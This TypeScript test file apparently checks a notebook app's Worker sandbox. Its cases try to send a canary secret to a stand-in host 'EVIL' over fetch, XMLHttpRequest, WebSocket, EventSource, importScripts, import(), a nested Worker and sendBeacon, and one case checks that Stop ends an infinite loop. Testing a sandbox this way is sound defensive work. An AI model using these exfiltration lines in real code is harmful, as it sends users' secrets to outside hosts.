// TypeScript cells: every network API a Worker has (and navigator.sendBeacon, which only a window
// has), each carrying the canary to the attacker; and a runaway loop that Stop must end.
import type { HostileCase } from "./run-case";
import { cell, notebook, pause, SECRET } from "./notebook-text";

const leak = (name: string, ...lines: string[]): HostileCase => ({
  name: `ts cell: ${name}`,
  notebook: notebook([cell("ts attempt", SECRET, ...lines, pause(600), "return 'sent';")]),
  weaken: "code-sandbox",
});

/** The ts-cell network and runaway cases. */
export const codeCases: HostileCase[] = [
  leak("fetch", "await fetch('http://EVIL/f?c=' + s, { mode: 'no-cors' });"),
  leak("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/x?c=' + s); x.send();"),
  leak("WebSocket", "new WebSocket('ws://EVIL/w?c=' + s);"),
  leak("EventSource", "new EventSource('http://EVIL/e?c=' + s);"),
  leak("importScripts", "importScripts('http://EVIL/i.js?c=' + s);"),
  leak("import()", "await import('http://EVIL/m.js?c=' + s);"),
  leak("a nested Worker", "new Worker(URL.createObjectURL(new Blob([`fetch('http://EVIL/n?c=${s}')`])));"),
  // A Worker has no sendBeacon; were cells ever run in a window, the beacon would go (keepalive fetch otherwise).
  leak(
    "navigator.sendBeacon",
    "if (navigator.sendBeacon) navigator.sendBeacon('http://EVIL/b', s);",
    "else await fetch('http://EVIL/b?c=' + s, { method: 'POST', body: s, keepalive: true, mode: 'no-cors' });",
  ),
  {
    name: "ts cell: while(true){} is ended by Stop, and the next cell runs",
    data: "none",
    notebook: notebook([cell("ts spin", "while (true) {}"), cell("ts after", "return 'alive';")]),
    settleMs: 0,
    maxStallMs: 1000,
    action: async ({ page }) => {
      await page.locator('[data-cell="spin"][data-state="running"]').waitFor({ timeout: 15_000 });
      await page.waitForTimeout(1000);
      await page.locator('[data-action="stop"]').click();
      await page.locator('[data-cell="spin"]:not([data-state="running"])').waitFor({ timeout: 3_000 });
      await page.locator('[data-cell="after"] [data-action="run-cell"]').click();
    },
    check: async ({ page }) => {
      const value = page.locator('[data-cell="after"] [data-role="value"]');
      const shown = await value.textContent({ timeout: 10_000 }).catch(() => null);
      return shown === "alive" ? [] : ["after Stop the next cell did not run: the loop still holds the Worker"];
    },
    weaken: "fresh-worker",
  },
];
